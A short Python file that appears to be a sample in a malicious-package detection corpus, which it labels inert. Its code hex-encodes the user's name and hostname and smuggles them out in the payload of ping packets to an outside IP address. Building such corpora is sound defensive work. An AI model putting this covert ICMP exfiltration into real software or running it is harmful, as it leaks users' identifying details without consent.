# pkgguard corpus 547 (system-information), modelled on [checkmarx-2024]; inert, never run.
import getpass
import socket
import subprocess

who = f"{getpass.getuser()}@{socket.gethostname()}".encode().hex()
for i in range(0, len(who), 32):
    subprocess.run(["ping", "-c", "1", "-p", who[i : i + 32], "100.64.7.21"], capture_output=True)
